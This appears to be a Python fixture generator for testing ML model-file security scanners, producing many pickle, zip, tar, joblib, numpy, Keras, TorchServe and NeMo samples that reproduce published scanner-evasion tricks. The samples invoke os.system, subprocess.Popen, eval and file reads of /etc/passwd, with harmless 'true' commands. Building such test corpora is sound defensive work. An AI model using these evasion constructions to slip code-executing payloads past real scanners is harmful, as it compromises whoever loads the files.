"""Tricks of published bypasses: streams that scanners read otherwise than loaders do, and formats around pickles."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from benign import plain, script
from pieces import (
    BAD,
    joblib_objects,
    keras,
    modern,
    nested,
    numpy_file,
    quiet_nested,
    tensor_pickle,
    text,
    torch_zip,
    wrapper,
)

FOUR = b"\x80\x04"


def tricks() -> Iterator[tuple[str, bytes]]:
    yield from streams()
    yield from zips()
    yield from containers()
    yield from configurations()


def streams() -> Iterator[tuple[str, bytes]]:
    """What is in the pickle itself."""
    attribute = b"N}X\x01\x00\x00\x00aX\x02\x00\x00\x00oss\x86b"  # a slot state: setattr(prod, "a", "os")
    renamed = FOUR + b"cnumpy\nprod\n" + attribute + b"0cnumpy\nprod.a\nX\x06\x00\x00\x00system\x93"
    yield "set-attributes.pkl", renamed + text("true") + b"\x85R."
    joined = (
        b"cbuiltins\ngetattr\n(X\x00\x00\x00\x00X\x04\x00\x00\x00jointR](X\x01\x00\x00\x00oX\x01\x00\x00\x00se\x85R"
    )
    yield "joined-name.pkl", FOUR + joined + text("system") + b"\x93" + text("true") + b"\x85R."
    yield "partial.pkl", FOUR + b"cfunctools\npartial\n(cposix\nsystem\n" + text("true") + b"tR)R."
    yield "partial-state.pkl", FOUR + b"cfunctools\npartial\n)\x81(cos\nsystem\n" + text("true") + b"\x85}Ntb)R."
    yield "factory.pkl", FOUR + b"ccollections\ndefaultdict\n(cos\nabort\ntR."
    yield "new-object.pkl", FOUR + b"ccopyreg\n__newobj__\n(csubprocess\nPopen\n" + text("true") + b"tR."
    yield (
        "reconstructor.pkl",
        b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR(dS'args'\nS'true'\nsb.",
    )
    yield "registered.pkl", FOUR + b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR0\x82\x01" + (
        text("true") + b"\x85R.")  # fmt: skip
    yield "extension-2.pkl", b"\x80\x02\x83\x01\x02" + b"X\x04\x00\x00\x00true\x85R."
    yield "extension-4.pkl", b"\x80\x02\x84\x01\x02\x03\x00" + b"X\x04\x00\x00\x00true\x85R."
    yield "persistent.pkl", b"P0\n0" + BAD + b"."
    yield "persistent-bytes.pkl", b"\x80\x02X\x01\x00\x00\x000Q0" + BAD + b"."
    yield "escaped-text.pkl", b"S'\\x6fs'\nS'\\163ystem'\n\x93(S'true'\ntR."
    long = b"\x8d" + struct.pack("<Q", 2) + b"os" + b"X\x06\x00\x00\x00system\x93"
    yield "long-names.pkl", FOUR + long + text("true") + b"\x85R."
    yield (
        "many-frames.pkl",
        FOUR
        + b"".join(
            b"\x95" + struct.pack("<Q", len(part)) + part
            for part in (text("os"), text("system"), b"\x93", text("true"), b"\x85R.")
        ),
    )
    yield "protocol-lies.pkl", b"\x80\x00" + modern("os", "system")[2:]
    yield "protocol-too-new.pkl", b"\x80\x09" + modern("os", "system")[2:]
    yield "protocol-again.pkl", b"\x80\x02\x80\x04" + modern("os", "system")[2:]
    yield "marks.pkl", FOUR + b"((((((1" + b"0" * 3 + modern("os", "system")[2:]
    yield "numbers-of-python-2.pkl", b"I01\n0L12L\n0F1.5\n0" + b"cos\nsystem\n(S'true'\ntR."
    yield "far-memo.pkl", b"\x80\x02X\x02\x00\x00\x00osr\xff\xff\xff\x7f0X\x06\x00\x00\x00systemp123456\n0" + (
        b"j\xff\xff\xff\x7fg123456\n\x93X\x04\x00\x00\x00true\x85R.")  # fmt: skip
    yield "out-of-band.pkl", b"\x80\x05\x97\x980" + modern("os", "system")[2:]
    yield "byte-array.pkl", b"\x80\x05\x96" + struct.pack("<Q", 4) + b"abcd0" + modern("os", "system")[2:]
    yield "error-after.pkl", modern("os", "system")[:-1] + b"cno_such_module\nname\n."
    yield "fails-in-the-middle.pkl", FOUR + b"](" + modern("os", "system")[2:-1] + b"R" * 5 + b"."
    yield "state-set.pkl", FOUR + b"ctorch.nn.modules.linear\nLinear\n)\x81}" + text("x") + BAD[:-1] + b"sb."
    yield "as-key.pkl", FOUR + b"}" + BAD[:-1] + b"K\x01s."
    yield "in-a-set.pkl", FOUR + b"\x8f(" + BAD[:-1] + b"\x90."
    yield "python-2-names.pkl", b"c__builtin__\napply\n(c__builtin__\neval\n(S'1'\nttR."
    yield "lower-case-twin.pkl", b"ccommands\ngetstatusoutput\n(S'true'\ntR."
    yield "nested-three.pkl", nested(nested(nested(modern("os", "system"))))
    yield "nested-in-text.pkl", b"\x80\x02c_pickle\nloads\nc_codecs\nencode\n" + (
        plain(modern("os", "system").decode("latin-1")) + b"X\x06\x00\x00\x00latin1\x86R\x85R.")  # fmt: skip
    yield "nested-protocol-0.pkl", quiet_nested(b"cos\nsystem\n(S'true'\ntR.")
    yield "nested-in-bytearray.pkl", b"\x80\x05ctorch.storage\n_load_from_bytes\n\x96" + (
        struct.pack("<Q", 23) + b"cos\nsystem\n(S'true'\ntR." + b"\x85R.")  # fmt: skip
    yield "nested-zipped.pkl", FOUR + b"cpickle\nloads\n(czlib\ndecompress\n(" + plain(b"x")[:0] + (
        b"B" + struct.pack("<I", len(packed := zlib.compress(modern("os", "system")))) + packed + b"tRtR.")  # fmt: skip
    hidden = BAD[:-1] + b"e."  # numbers to joblib, opcodes to everybody else
    yield "in-an-array.pkl", b"\x80\x03](" + wrapper(len(hidden), b"u1", False) + hidden + b"e."
    hidden = b"h\x00" + text("system") + b"\x93" + text("true") + b"\x85Rcos\nabort\ne."
    remembered = FOUR + b"](" + text("os") + b"\x94"
    yield "memo-in-an-array.pkl", remembered + wrapper(len(hidden), b"u1", False) + hidden + b"e."
    yield "objects-in-joblib.joblib", joblib_objects(modern("os", "system"), b"K\x01")
    yield "behind-objects.joblib", joblib_objects(pickle.dumps(["a"]), BAD[:-1])
    yield "fifty-before.pkl", b"".join(pickle.dumps(number) for number in range(50)) + modern("os", "system")
    for suffix in (".safetensors", ".onnx", ".pb", ".gguf", ".npy", ".h5", ".msgpack", ".json", ".joblib"):
        yield f"protocol-0{suffix}", b"cos\nsystem\n(S'true'\ntR."
        yield f"protocol-4{suffix}", modern("os", "system")


def archive(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    page = io.BytesIO()
    with zipfile.ZipFile(page, "w", method) as made:
        for name, data in members:
            made.writestr(zipfile.ZipInfo(name), data, method)
    return page.getvalue()


def zips() -> Iterator[tuple[str, bytes]]:
    """Archives that scanners and loaders read in different ways."""
    bad, good = tensor_pickle(BAD), tensor_pickle()
    broken = bytearray(archive(("archive/.first", b"x" * 40), ("archive/data.pkl", bad)))
    broken[30 + len("archive/.first") + 5] ^= 0xFF
    yield "zip-broken-first.pt", bytes(broken)
    cut = archive(("archive/first", b"x" * 40), ("archive/data.pkl", bad), method=zipfile.ZIP_DEFLATED)
    yield "zip-cut-first.pt", cut.replace(zlib.compress(b"x" * 40)[2:-4], b"\xff" * 5, 1)
    page = io.BytesIO()
    with zipfile.ZipFile(page, "w") as made:
        for data in (good, bad):
            made.writestr(zipfile.ZipInfo("archive/data.pkl"), data)
            made.NameToInfo.clear()
    yield "zip-twice.pt", page.getvalue()
    yield "zip-after-zip.pt", torch_zip(good) + torch_zip(bad)
    yield "zip-empty-end.pt", torch_zip(bad) + b"PK\x05\x06" + b"\0" * 18
    yield "zip-end-in-comment.pt", torch_zip(bad)[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + b"\0" * 18
    yield "zip-no-directory.pt", torch_zip(bad).partition(b"PK\x01\x02")[0]
    for name, at, value in (("method", 8, 8), ("flags", 6, 0x800), ("size", 18, 0), ("sizes-later", 6, 8)):
        changed = bytearray(torch_zip(bad))
        struct.pack_into("<H", changed, at, value)
        yield f"zip-local-{name}.pt", bytes(changed)
    yield "zip-version.pt", torch_zip(bad).replace(b"PK\x03\x04\x14\x00", b"PK\x03\x04\xff\xff")
    yield "zip-up.pt", archive(("../../archive/data.pkl", bad), ("archive/version", b"3"))
    yield "zip-backslash.pt", archive(("archive\\data.pkl", bad))
    yield (
        "zip-nested-suffix.pt",
        archive(("archive/data.pkl", good), ("archive/extra/model.txt", modern("os", "system"))),
    )
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield f"zip-{name}.npz", archive(("a.npy", numpy_file(modern("os", "system"))), method=method)
    yield "zip-bytes-before.bin", b"\x89PNG\r\n\x1a\n" + b"\0" * 1000 + torch_zip(bad)
    yield "zip-in-gzip.pt", gzip.compress(torch_zip(bad))


def containers() -> Iterator[tuple[str, bytes]]:
    """Other things around pickles."""
    page = io.BytesIO()
    with tarfile.open(fileobj=page, mode="w", format=tarfile.USTAR_FORMAT) as made:
        info = tarfile.TarInfo("pickle")
        data = tensor_pickle(BAD)
        info.size = len(data)
        made.addfile(info, io.BytesIO(data))
    ustar = page.getvalue()
    old = bytearray(ustar)
    old[257:265] = b"\0" * 8  # as tar was before it had a mark
    total = sum(old[:148]) + 8 * 32 + sum(old[156:512])
    old[148:156] = b"%06o\0 " % total
    yield "tar-old.pt", bytes(old)
    yield "tar-gzip.pt", gzip.compress(ustar)
    yield "gzip-twice.pkl", gzip.compress(gzip.compress(modern("os", "system")))
    packed = zlib.compress(modern("os", "system"))
    yield "joblib-old.joblib", b"ZF" + hex(len(modern("os", "system"))).encode().ljust(19) + packed
    fields = b"\x93NUMPY\x02\x00"
    head = b"{'descr': [('a', '<f4'), ('b', 'O')], 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (63 - (12 + len(head)) % 64) + b"\n"
    yield "fields.npy", fields + struct.pack("<I", len(head)) + head + modern("os", "system")
    yield (
        "weights-in.keras",
        archive(
            ("config.json", b'{"class_name": "Functional"}'),
            ("metadata.json", b"{}"),
            ("model.weights.npz", modern("os", "system")),
        ),
    )
    yield "script-files.pt", script('torch.save(x, "/tmp/x")')
    yield "script-reads.pt", script('torch.from_file("/etc/passwd", False, 10)')
    yield (
        "handler.mar",
        archive(
            ("MAR-INF/MANIFEST.json", b'{"model": {"handler": "h.py"}}'), ("h.py", b"import os\nos.system('true')\n")
        ),
    )
    yield "target.nemo", archive(("model_config.yaml", b"model:\n  _target_: os.system\n  command: 'true'\n"))
    yield "target-quoted.nemo", archive(("model_config.yaml", b'model: {"_target_": "subprocess.Popen", args: x}\n'))


def configurations() -> Iterator[tuple[str, bytes]]:
    """Keras models without a plain Lambda."""
    layers = {
        "qualified": {"class_name": "keras.layers.Lambda", "module": None, "config": {}},
        "registered": {"class_name": "x", "registered_name": "Lambda", "module": "keras.src.layers", "config": {}},
        "torch": {"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": {}}},
        "saved-model": {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": "/tmp/x"}},
        "get-file": {"class_name": "function", "module": "keras.utils", "config": "get_file"},
        "function": {"class_name": "function", "module": "subprocess", "config": "run"},
        "function-of-keras": {"class_name": "function", "module": "keras.src.utils.file_utils", "config": "get_file"},
        "vocabulary": {"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}},
        "vocabulary-far": {"class_name": "TextVectorization", "module": "keras.layers",
                           "config": {"vocabulary": "http://host.example/words"}},
    }  # fmt: skip
    for name, layer in layers.items():
        yield f"{name}.keras", keras(layer)
    for name, written in {
        "spaced": '{"class_name" :\n "Lambda", "config": {}}',
        "qualified": '{"class_name": "keras.layers.core.Lambda"}',
        "escaped": '{"class_name": "\\u004cambda"}',
        "escaped-key": '{"\\u0063lass_name": "\\u004cambda"}',
        "function": json.dumps({"class_name": "function", "module": "subprocess", "config": "run"}),
        "torch": '{"class_name": "TorchModuleWrapper", "config": {}}',
    }.items():
        yield f"{name}.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 512 + written.encode() + b"\0" * 512
